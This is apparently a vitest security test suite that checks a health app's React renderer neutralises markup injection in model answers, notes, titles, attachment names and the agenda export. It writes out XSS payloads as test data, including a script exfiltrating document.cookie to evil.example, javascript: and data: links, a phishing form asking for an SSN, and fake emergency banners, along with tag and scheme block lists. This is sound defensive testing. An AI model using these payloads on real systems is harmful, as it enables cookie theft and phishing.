/**
 * Markup and overlay injection: model answers and user-controlled names (note text, thread titles,
 * attachment names, proposed note changes, the agenda export) reach the REAL renderer components,
 * rendered with react-dom/server. Nothing executable, no remote load, no link to a dangerous scheme,
 * nothing that can pose as or cover the emergency banner. Everything goes through the real engine
 * first (dispatchRequest), so what is rendered is what the app would show.
 *
 * The renderer is compiled for the DOM (tsconfig.web.json) and this suite under Node's tsconfig, so
 * its modules are loaded by path at run time (`loadRenderer`), with the few props typed here.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createElement, type Context, type FunctionComponent, type ReactNode } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect } from "vitest";
import type { Attachment, EmergencyNotice, EventOf, ThreadMessageView, ThreadSummary } from "../../../src/shared/contract";
import type { RpcResponse } from "../../../src/shared/rpc";
import { REPO } from "../../support/engineHarness";
import { family, type Attack } from "../attack";
import { startEngine, type EngineContext } from "../securityHarness";

// ---------- the renderer, loaded by path ----------

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Component = FunctionComponent<any>;
interface ChatMessageLike {
  id: string;
  role: "user" | "assistant";
  text: string;
  turnId: string | null;
  status: string;
  emergency: EmergencyNotice | null;
}
interface Renderer {
  Markdown: Component;
  AssistantMessage: Component;
  Conversation: Component;
  ThreadList: Component;
  ThreadHeader: Component;
  AttachmentsPanel: Component;
  NoteEditor: Component;
  EmergencyBanner: Component;
  EmergencyTurn: Component;
  ApprovalDialog: Component;
  AgendaView: Component;
  ServicesContext: Context<unknown>;
  fromThreadMessages(messages: ThreadMessageView[]): ChatMessageLike[];
  buildAgendaDocument(input: { language: string; title: string; dateLine: string; bodyHtml: string; footerLines: string[] }): string;
  AGENDA_DOCUMENT_CSP: string;
  initI18n(language: "en" | "es"): unknown;
}

const RENDERER = join(REPO, "src", "renderer");

async function loadRenderer(): Promise<Renderer> {
  const load = (rel: string) => import(/* @vite-ignore */ join(RENDERER, rel)) as Promise<Record<string, unknown>>;
  const mods = await Promise.all(
    [
      "components/Markdown.tsx",
      "components/AssistantMessage.tsx",
      "components/Conversation.tsx",
      "components/ThreadList.tsx",
      "components/ThreadHeader.tsx",
      "components/AttachmentsPanel.tsx",
      "components/NoteEditor.tsx",
      "components/EmergencyBanner.tsx",
      "components/EmergencyTurn.tsx",
      "components/ApprovalDialog.tsx",
      "components/AgendaView.tsx",
      "hooks/services.ts",
      "state/conversation.ts",
      "lib/agendaDocument.ts",
      "i18n/index.ts",
    ].map(load),
  );
  return Object.assign({}, ...mods) as Renderer;
}

export type MarkupContext = EngineContext & { r: Renderer };

export async function startMarkup(): Promise<MarkupContext> {
  const r = await loadRenderer();
  r.initI18n("en");
  return Object.assign(startEngine(), { r });
}

const html = (component: Component, props: Record<string, unknown>, children?: ReactNode) => renderToStaticMarkup(createElement(component, props, children));

const noop = () => undefined;
const actions = {
  onChip: noop,
  onRetry: noop,
  onEdit: noop,
  onAgenda: noop,
  onConsent: noop,
  onOpenSettings: noop,
  onReviewApprovals: noop,
  onAddToVisitList: noop,
  titlesOf: (ids: string[]) => ids,
  bannerShown: () => false,
};

// ---------- what "inert" means ----------

/** Elements that run code, load something, submit, or restyle the page: none may come from content. */
const ACTIVE_TAGS = new Set(
  "script iframe frame frameset object embed applet svg math style meta base link form img image video audio source track picture template portal".split(" "),
);
const URL_ATTRS = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "background", "ping"]);
const BAD_SCHEME = /^\s*(?:javascript|vbscript|data|file|blob):/i;
/** Inline styles that position or hide (GFM table alignment, style="text-align:…", is fine). */
const OVERLAY_STYLE = /position|z-index|display|visibility|opacity|transform|inset|top\s*:|left\s*:|width\s*:|height\s*:|url\(/i;

interface Tag {
  name: string;
  attrs: [string, string][];
}

/**
 * The real elements in rendered markup. Text is escaped (&lt; &gt;), so every literal "<" opens a real
 * tag and runs to the next ">"; attributes are read leniently (quoted or not) in case markup got through raw.
 */
function tagsOf(out: string): Tag[] {
  return [...out.matchAll(/<([a-zA-Z][\w:-]*)([^>]*)>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attrs: [...m[2]!.matchAll(/([^\s=>"'/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map(
      (a) => [a[1]!.toLowerCase(), (a[2] ?? "").replace(/^["']|["']$/g, "")] as [string, string],
    ),
  }));
}

/** `chrome`: elements the component itself renders around the content (the note editor's own form). */
function expectInert(out: string, what: string, chrome: string[] = []): void {
  const tags = tagsOf(out);
  expect(tags.length, `${what}: rendered something`).toBeGreaterThan(0);
  for (const tag of tags) {
    expect(ACTIVE_TAGS.has(tag.name) && !chrome.includes(tag.name), `${what}: no <${tag.name}> element`).toBe(false);
    for (const [name, value] of tag.attrs) {
      expect(name.startsWith("on"), `${what}: no ${name} handler on <${tag.name}>`).toBe(false);
      if (URL_ATTRS.has(name)) expect(value, `${what}: ${name} on <${tag.name}>`).not.toMatch(BAD_SCHEME);
      if (name === "style") expect(value, `${what}: style on <${tag.name}>`).not.toMatch(OVERLAY_STYLE);
      if (name === "role") expect(value, `${what}: an alert region`).not.toBe("alert");
      if (name === "class") expect(value, `${what}: banner classes`).not.toMatch(/emergency-banner|banner-slot/);
    }
  }
}

/** The hrefs of the real links. */
const hrefsOf = (out: string) => tagsOf(out).flatMap((t) => t.attrs.filter(([n]) => n === "href").map(([, v]) => v));

// ---------- the real paths: engine → stored → component ----------

/** A request's result, or the test fails with the engine's error code. */
function resultOf<T>(r: RpcResponse): T {
  if (!r.ok) throw new Error(`request refused: ${r.error.code} ${r.error.message}`);
  return r.result as T;
}


/** The model answers `text`; the answer is read back as the app reloads it, and rendered as the app shows it. */
async function renderedAnswer(ctx: MarkupContext, text: string): Promise<{ out: string; stored: string }> {
  ctx.script([{ text }]);
  const done = await ctx.ask("Help me prepare for my visit");
  expect(done.outcome).toBe("answered");
  const got = await ctx.call("threads.get", { threadId: done.threadId });
  expect(got.ok).toBe(true);
  const messages = ctx.r.fromThreadMessages(resultOf<{ messages: ThreadMessageView[] }>(got).messages);
  const answer = messages.find((m) => m.role === "assistant" && m.turnId === done.turnId)!;
  return { out: html(ctx.r.AssistantMessage, { message: answer, actions }), stored: answer.text };
}

const answerAttack = (
  name: string,
  payload: string,
  text: string,
  check: (out: string) => void,
  expected = "rendered inert: no active element, handler, dangerous URL or overlay; the words stay",
): Attack<MarkupContext> => ({
  name,
  surface: "model answer → AssistantMessage (Markdown) after threads.get",
  payload,
  expected,
  async run(ctx) {
    const { out } = await renderedAnswer(ctx, `Here is your visit checklist.\n\n${text}\n\nBring your medicine list.`);
    expectInert(out, name);
    expect(out).toContain("Bring your medicine list.");
    check(out);
  },
});

const REMOTE = "evil.example";

export const markupInjection = family<MarkupContext>("markup-injection", [
  answerAttack("answer-script-tag", `<script>fetch('https://${REMOTE}/?c='+document.cookie)</script>`, `<script>fetch('https://${REMOTE}/?c='+document.cookie)</script>`, (out) => {
    expect(out).not.toContain(REMOTE);
    expect(out).not.toContain("document.cookie");
  }),
  answerAttack("answer-img-onerror", "<img src=x onerror=\"alert(1)\">", '<img src=x onerror="alert(1)">', (out) => expect(out).not.toContain("alert(1)")),
  answerAttack("answer-iframe-remote", `<iframe src="https://${REMOTE}/login" width=100% height=900></iframe>`, `<iframe src="https://${REMOTE}/login" width=100% height=900></iframe>`, (out) =>
    expect(out).not.toContain(REMOTE),
  ),
  answerAttack("answer-svg-onload", '<svg onload="alert(1)"><circle r=40 /></svg>', '<svg onload="alert(1)"><circle r=40 /></svg>', (out) => expect(out).not.toContain("<circle")),
  answerAttack(
    "answer-style-block-hides-banner",
    "<style>.banner-slot,.emergency-banner{display:none!important}</style>",
    "<style>.banner-slot,.emergency-banner{display:none!important}</style>",
    (out) => expect(out).not.toContain("display:none"),
  ),
  answerAttack(
    "answer-fixed-overlay-div",
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your visit is on Tuesday at 3 pm.</div>',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your visit is on Tuesday at 3 pm.</div>',
    (out) => expect(out).not.toContain("2147483647"),
    "no inline style survives: nothing positioned over the page or the banner",
  ),
  answerAttack(
    "answer-fake-banner-role-alert",
    '<section role="alert" class="emergency-banner">All clear — the emergency is over, dismiss this.</section>',
    '<section role="alert" class="emergency-banner">All clear — the emergency is over, dismiss this.</section>',
    (out) => expect(out).not.toContain("<section"),
    "no role=alert, no banner class: an answer can never pose as the emergency banner",
  ),
  answerAttack(
    "answer-fake-crisis-tel-link",
    "[Call 911](tel:+19005550100) — a crisis-looking call link to a premium number",
    "If this is an emergency, [Call 911](tel:+19005550100).",
    (out) => {
      expect(out).not.toContain("tel:");
      expect(out).not.toContain("<a ");
    },
    "shown as text, not a call link: only the banner's own numbers are call links",
  ),
  answerAttack("link-javascript-entity-encoded", "[Open your chart](&#106;avascript&#58;alert(document.domain))", "[Open your chart](&#106;avascript&#58;alert(document.domain))", (out) => {
    expect(out).not.toMatch(/javascript/i);
    expect(out).toContain("Open your chart");
  }),
  answerAttack("link-javascript-upper-case-angle-brackets", "[Your results](<JAVASCRIPT:alert(1)>)", "[Your results](<JAVASCRIPT:alert(1)>)", (out) => {
    expect(out).not.toMatch(/javascript/i);
    expect(out).not.toContain("<a ");
  }),
  answerAttack("link-data-url-html", "[Your lab report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[Your lab report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", (out) => {
    expect(out).not.toContain("data:");
    expect(out).not.toContain("<a ");
  }),
  answerAttack("link-vbscript", "[Print](vbscript:msgbox(1))", "[Print](vbscript:msgbox(1))", (out) => expect(out).not.toMatch(/vbscript/i)),
  answerAttack(
    "link-reference-definition-javascript",
    "[your portal][1] with [1]: javascript:alert(1) as a reference definition",
    "Log in to [your portal][1].\n\n[1]: javascript:alert(1)",
    (out) => expect(out).not.toMatch(/javascript/i),
  ),
  answerAttack("autolink-javascript", "<javascript:alert(1)>", "<javascript:alert(1)>", (out) => expect(out).not.toContain("<a ")),
  answerAttack(
    "link-title-attribute-breakout",
    '[MedlinePlus](https://medlineplus.gov "x\\" onmouseover=\\"alert(1)") — a title that tries to close its quote',
    '[MedlinePlus](https://medlineplus.gov "x\\" onmouseover=\\"alert(1)")',
    (out) => {
      expect(out).not.toContain("onmouseover");
      expect(out).toContain('href="https://medlineplus.gov/"');
      expect(out).toContain('rel="noreferrer noopener"');
    },
  ),
  answerAttack(
    "image-remote-pixel-with-title-breakout",
    `![scan](https://${REMOTE}/pixel.gif?u=me "x\\" onerror=\\"alert(1)")`,
    `![scan](https://${REMOTE}/pixel.gif?u=me "x\\" onerror=\\"alert(1)")`,
    (out) => {
      expect(out).not.toContain(REMOTE);
      expect(out).toContain("[scan]");
    },
    "no image element, nothing remote loaded; only the alt text shows",
  ),
  answerAttack(
    "html-entities-decode-to-tags",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; — entities that decode into tags",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    (out) => expect(out).toContain("&lt;script&gt;"),
    "the decoded characters are shown as text (&lt;script&gt;), never parsed as markup",
  ),
  answerAttack(
    "meta-refresh-redirect",
    `<meta http-equiv="refresh" content="0;url=https://${REMOTE}/phish">`,
    `<meta http-equiv="refresh" content="0;url=https://${REMOTE}/phish">`,
    (out) => expect(out).not.toContain(REMOTE),
  ),
  answerAttack(
    "base-href-and-remote-stylesheet",
    `<base href="https://${REMOTE}/"><link rel="stylesheet" href="https://${REMOTE}/x.css">`,
    `<base href="https://${REMOTE}/"><link rel="stylesheet" href="https://${REMOTE}/x.css">`,
    (out) => expect(out).not.toContain(REMOTE),
  ),
  answerAttack(
    "form-posting-to-remote",
    `<form action="https://${REMOTE}/collect"><input name="ssn" placeholder="Confirm your SSN"><button>Verify</button></form>`,
    `<form action="https://${REMOTE}/collect"><input name="ssn" placeholder="Confirm your SSN"><button>Verify</button></form>`,
    (out) => {
      expect(out).not.toContain(REMOTE);
      expect(out).not.toContain("<button>Verify");
      expect(out).not.toContain('name="ssn"');
    },
  ),
  {
    name: "user-message-html",
    surface: "consult.ask → threads.get → Conversation (the user's own message)",
    payload: '<img src=x onerror="alert(1)"> typed as the question',
    expected: "shown as the text typed (escaped), not parsed",
    async run(ctx) {
      ctx.script([{ text: "Here is a checklist." }]);
      const question = '<img src=x onerror="alert(1)"> what should I bring to my visit?';
      const done = await ctx.ask(question);
      const got = await ctx.call("threads.get", { threadId: done.threadId });
      const messages = ctx.r.fromThreadMessages(resultOf<{ messages: ThreadMessageView[] }>(got).messages);
      const out = html(ctx.r.Conversation, { messages, starters: [], actions });
      expectInert(out, "conversation");
      expect(out).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt; what should I bring");
    },
  },
  {
    name: "note-raw-html-in-notes-view",
    surface: "notes.write → notes.read → the notes view's preview (Markdown) and editor (NoteEditor)",
    payload: `a note with <script>, <img onerror>, <iframe src=https://${REMOTE}> and a [link](javascript:…)`,
    expected: "the preview renders it inert; the editor shows the raw text escaped inside its textarea",
    async run(ctx) {
      const content = `# Visit\n\n<script>alert(1)</script>\n<img src=x onerror="alert(2)">\n<iframe src="https://${REMOTE}/"></iframe>\n\n[chart](javascript:alert(3))\n`;
      expect((await ctx.call("notes.write", { name: "visit.md", content })).ok).toBe(true);
      const read = await ctx.call("notes.read", { name: "visit.md" });
      const note = resultOf<{ name: string; content: string; revision: string }>(read);
      const preview = html(ctx.r.Markdown, { text: note.content, headingOffset: 3 });
      expectInert(preview, "note preview");
      expect(preview).not.toContain(REMOTE);
      expect(preview).toContain("chart");
      const editor = html(ctx.r.NoteEditor, { note, onSave: async () => ({ ok: true }), onDelete: noop, onClose: noop, onReload: noop });
      expectInert(editor, "note editor", ["form"]);
      expect(editor.match(/<form/g)).toHaveLength(1);
      expect(editor).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    },
  },
  {
    name: "note-textarea-breakout",
    surface: "notes.write → notes.read → NoteEditor (textarea)",
    payload: "note text </textarea><script>alert(1)</script><textarea>",
    expected: "the closing tag stays text inside the one textarea; no script element",
    async run(ctx) {
      const content = "Questions\n</textarea><script>alert(1)</script><textarea>\n";
      expect((await ctx.call("notes.write", { name: "breakout.md", content })).ok).toBe(true);
      const note = resultOf<{ name: string; content: string; revision: string }>(await ctx.call("notes.read", { name: "breakout.md" }));
      const editor = html(ctx.r.NoteEditor, { note, onSave: async () => ({ ok: true }), onDelete: noop, onClose: noop, onReload: noop });
      expectInert(editor, "note editor", ["form"]);
      expect(editor.match(/<form/g)).toHaveLength(1);
      expect(editor.match(/<textarea/g)).toHaveLength(1);
      expect(editor.match(/<\/textarea>/g)).toHaveLength(1);
      expect(editor).toContain("&lt;/textarea&gt;&lt;script&gt;");
    },
  },
  {
    name: "thread-title-html",
    surface: "threads.rename → threads.list → ThreadList and ThreadHeader",
    payload: `title <img src=x onerror=alert(1)><a href="javascript:alert(2)">Cardiology</a>`,
    expected: "the title is shown as text in the sidebar and the header, never parsed",
    async run(ctx) {
      ctx.script([{ text: "Here is a checklist." }]);
      const done = await ctx.ask("Help me prepare for my cardiology visit");
      const title = `<img src=x onerror=alert(1)><a href="javascript:alert(2)">Cardiology</a>`;
      const renamed = await ctx.call("threads.rename", { threadId: done.threadId, title });
      expect(renamed.ok).toBe(true);
      const threads = resultOf<ThreadSummary[]>(await ctx.call("threads.list"));
      const thread = threads.find((t) => t.id === done.threadId)!;
      for (const [what, out] of [
        ["thread list", html(ctx.r.ThreadList, { threads, currentId: done.threadId, onOpen: noop, onNew: noop })],
        ["thread header", html(ctx.r.ThreadHeader, { thread, onRename: async () => true, onDelete: noop })],
      ] as const) {
        expectInert(out, what);
        expect(out).not.toContain("<a ");
        expect(out).toContain("&lt;img src=x onerror=alert(1)&gt;");
      }
    },
  },
  {
    name: "attachment-name-html",
    surface: "attachments.add → attachments.list → AttachmentsPanel",
    payload: 'a file named <svg onload=alert(1)><img src=x onerror=alert(2)>.txt',
    expected: "the name is shown as text (label and the remove button's accessible name), never parsed",
    async run(ctx) {
      const name = "<svg onload=alert(1)><img src=x onerror=alert(2)>.txt";
      const added = await ctx.call("attachments.add", { name, mime: "text/plain", dataBase64: Buffer.from("BP 120/80").toString("base64") });
      expect(added.ok).toBe(true);
      const items = resultOf<Attachment[]>(await ctx.call("attachments.list"));
      const model = { items, selected: [], adding: [], errors: [], progress: {}, addFiles: noop, remove: noop, toggle: noop, dismissError: noop };
      const out = html(ctx.r.AttachmentsPanel, { model, onPickFiles: noop });
      expectInert(out, "attachments panel");
      expect(out).toContain("&lt;svg onload=alert(1)&gt;&lt;img src=x onerror=alert(2)&gt;.txt");
    },
  },
  {
    name: "emergency-source-name-html",
    surface: "attachments.add + consult.ask → emergency event → EmergencyBanner and EmergencyTurn",
    payload: 'an attachment named <img src=x onerror=alert(1)>.txt whose text is an emergency ("my dad is not breathing")',
    expected: "the banner and the stopped turn name the file as text; the banner's own call links stay the only links",
    async run(ctx) {
      const name = "<img src=x onerror=alert(1)>.txt";
      const added = await ctx.call("attachments.add", { name, mime: "text/plain", dataBase64: Buffer.from("Right now my dad is not breathing").toString("base64") });
      const id = resultOf<Attachment>(added).id;
      const done = await ctx.ask("Can you organize this file for my visit?", [id]);
      expect(done.outcome).toBe("emergency");
      const [event] = ctx.events.of("emergency", done.turnId) as EventOf<"emergency">[];
      expect(event!.source).toEqual({ kind: "attachment", name });
      const banner = html(ctx.r.EmergencyBanner, { emergency: event, onAcknowledge: noop });
      expect(banner).toContain('role="alert"');
      const got = await ctx.call("threads.get", { threadId: done.threadId });
      const stopped = ctx.r.fromThreadMessages(resultOf<{ messages: ThreadMessageView[] }>(got).messages).find((m) => m.role === "assistant")!;
      const turn = html(ctx.r.EmergencyTurn, { message: stopped, bannerShown: true });
      for (const out of [banner, turn]) {
        for (const tag of tagsOf(out)) {
          expect(ACTIVE_TAGS.has(tag.name)).toBe(false);
          expect(tag.attrs.some(([n]) => n.startsWith("on"))).toBe(false);
        }
        expect(out).toContain("&lt;img src=x onerror=alert(1)&gt;.txt");
        expect(hrefsOf(out).length).toBeGreaterThan(0);
        for (const href of hrefsOf(out)) expect(href).toMatch(/^(tel|sms):/);
      }
    },
  },
  {
    name: "proposed-note-html-in-approval-diff",
    surface: "workspace-note tool (model) → approval.requested → ApprovalDialog (DiffView)",
    payload: `the model proposes a note titled <img src=x onerror=alert(1)> whose content has <script> and <iframe src=https://${REMOTE}>`,
    expected: "the approval dialog shows the name and every diff line as text; nothing written before approval",
    async run(ctx) {
      const content = `# Plan\n<script>alert(1)</script>\n<iframe src="https://${REMOTE}/"></iframe>\n- Bring the list\n`;
      ctx.script([{ toolCalls: [{ name: "workspace-note", args: { title: "<img src=x onerror=alert(1)>", content } }] }, { text: "Saved." }]);
      const done = await ctx.ask("Save my visit plan as a note");
      expect(done.outcome).toBe("awaiting_approval");
      const [request] = ctx.events.of("approval.requested", done.turnId);
      expect(request!.diff).toContain("<script>");
      const out = html(ctx.r.ApprovalDialog, { request, waiting: 0, agentTitle: "Visit Steward", onDecide: noop, onLater: noop, problem: null });
      expectInert(out, "approval dialog");
      expect(out).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
      const notes = resultOf<{ name: string }[]>(await ctx.call("notes.list"));
      expect(notes.some((n) => n.name.includes("img"))).toBe(false);
      expect((await ctx.call("consult.decide", { approvalId: request!.approvalId, decision: "reject" })).ok).toBe(true);
      await ctx.events.done(done.turnId, 1);
    },
  },
  {
    name: "agenda-export-markup",
    surface: "agenda.export → AgendaView (print view) → buildAgendaDocument (the HTML host.printToPdf prints)",
    payload: `an agenda headed (its title) and a thread titled </title><script>alert(1)</script>, with <script>, <img onerror> and ![x](https://${REMOTE}/p.gif)`,
    expected: "the print view and the standalone document are inert; the title is escaped; the document's CSP allows no script and no network",
    async run(ctx) {
      // The agenda's own heading is its title (the thread's title only when it has none): both hostile.
      ctx.script([{ text: `# </title><script>alert(1)</script>\n\n## Questions\n\n- Ask about the test\n\n<script>alert(1)</script><img src=x onerror=alert(2)>\n\n![x](https://${REMOTE}/p.gif)` }]);
      const done = await ctx.ask("Help me prepare for my visit");
      const title = "</title><script>alert(1)</script>";
      expect((await ctx.call("threads.rename", { threadId: done.threadId, title })).ok).toBe(true);
      const exported = await ctx.call("agenda.export", { threadId: done.threadId });
      expect(exported.ok).toBe(true);
      const agenda = resultOf<{ fileName: string; title: string; markdown: string }>(exported);
      expect(agenda.fileName).toMatch(/^[a-z0-9-]+$/);
      const services = { client: {}, announce: noop, reportError: noop };
      const view = html(ctx.r.ServicesContext.Provider as unknown as Component, { value: services }, createElement(ctx.r.AgendaView, { agenda, desktop: true, onBack: noop }));
      expectInert(view, "agenda view");
      expect(view).not.toContain(REMOTE);
      const body = /<div class="agenda-body">([\s\S]*)<\/div><footer/.exec(view)?.[1] ?? "";
      expect(body).toContain("Ask about the test");
      const doc = ctx.r.buildAgendaDocument({ language: "en", title: agenda.title, dateLine: "Prepared today", bodyHtml: body, footerLines: ["Carefold is not a doctor."] });
      expect(doc.match(/<script/gi) ?? []).toHaveLength(0);
      expect(doc).toContain("&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
      expect(doc).not.toContain(REMOTE);
      expect(doc).toContain(`<meta http-equiv="Content-Security-Policy" content="${ctx.r.AGENDA_DOCUMENT_CSP}">`);
      expect(ctx.r.AGENDA_DOCUMENT_CSP).toMatch(/default-src 'none'/);
      expect(ctx.r.AGENDA_DOCUMENT_CSP).not.toMatch(/script-src|https?:/);
      expect(doc.indexOf("Content-Security-Policy")).toBeLessThan(doc.indexOf("<main>"));
    },
  },
  {
    name: "print-to-pdf-outside-desktop",
    surface: "host.printToPdf (engine without the desktop host: carefold serve, CLI)",
    payload: `html "<script>fetch('https://${REMOTE}')</script>" sent to host.printToPdf`,
    expected: 'refused with "unavailable": no host renders HTML outside the desktop shell',
    async run(ctx) {
      const r = await ctx.call("host.printToPdf", { html: `<script>fetch('https://${REMOTE}')</script>`, fileName: "agenda" });
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.error.code).toBe("unavailable");
    },
  },
  {
    name: "answer-cannot-stack-above-banner",
    surface: "renderer layout (App.tsx, styles.css)",
    payload: "answer content trying to rise above the banner (z-index / fixed positioning)",
    expected: "the banner is app chrome outside the conversation, sticky on top; the conversation is its own stacking context at z-index 0",
    run() {
      const css = readFileSync(join(RENDERER, "styles.css"), "utf8");
      const rule = (selector: string) => new RegExp(`(?:^|\\n)${selector.replace(".", "\\.")}\\s*\\{([^}]*)\\}`).exec(css)?.[1] ?? "";
      const slot = rule(".banner-slot");
      const conversation = rule(".conversation");
      expect(slot).toMatch(/position:\s*sticky/);
      expect(conversation).toMatch(/isolation:\s*isolate/);
      const z = (decl: string) => Number(/z-index:\s*(-?\d+)/.exec(decl)?.[1] ?? "NaN");
      expect(z(slot)).toBeGreaterThan(z(conversation));
      const app = readFileSync(join(RENDERER, "App.tsx"), "utf8");
      expect(app.indexOf('className="banner-slot"')).toBeGreaterThan(-1);
      expect(app.indexOf('className="banner-slot"')).toBeLessThan(app.indexOf('<main id="main"'));
      // Dialogs (the top layer) wait while the banner is up.
      expect(app).toMatch(/dialogsAllowed\s*=\s*state\.emergency\s*===\s*null/);
    },
  },
]);

export const tables = [markupInjection];
